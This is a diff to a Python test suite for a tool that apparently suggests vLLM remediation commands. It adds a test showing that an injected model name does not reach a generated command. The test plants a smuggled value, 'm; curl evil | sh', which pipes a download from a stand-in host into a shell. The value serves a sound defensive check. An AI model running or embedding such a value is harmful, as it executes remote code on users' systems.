@@ -6,6 +6,7 @@ import os
 import pty
 import re
 import select
+import shutil
 import signal
 import subprocess
 import tempfile
@@ -151,6 +152,17 @@ class Pages(Case):
             self.assertNotEqual(result.out, "", name)
         broken = self.document(self.path("broken.prom"))
         self.assertEqual((broken["targets"][0]["outcome"], broken["targets"][0]["dropped_lines"]), ("partial", 1))
+
+    def test_hostile_names_do_not_reach_a_command(self):
+        folder = self.path("rec")
+        shutil.copytree(os.path.join(os.path.dirname(__file__), "../../demo/trouble"), folder)
+        for name in os.listdir(folder):
+            with open(os.path.join(folder, name), encoding="utf-8") as f:
+                self.path(f"rec/{name}", f.read().replace("acme/chat-14b", "m; curl evil | sh"))
+        d = self.document(folder)
+        commands = [a["command"] for f in d["findings"] for a in f["actions"] if "command" in a]
+        self.assertTrue(any("vllm serve MODEL " in c for c in commands), commands)
+        self.assertFalse([c for c in commands if "evil" in c])
 
     def test_many_series_of_one_gauge_are_all_summed(self):
         page = "# TYPE vllm:num_requests_running gauge\n" + "".join(
